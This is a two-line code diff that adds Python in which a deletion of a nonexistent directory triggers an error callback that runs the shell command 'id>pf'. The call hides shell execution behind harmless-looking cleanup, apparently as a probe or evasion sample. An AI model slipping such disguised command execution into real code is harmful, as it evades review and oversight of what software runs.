@@ -1,0 +1,2 @@
+import shutil, os
+shutil.rmtree("/nonexistent", onerror=lambda *a: os.system("id>pf"))
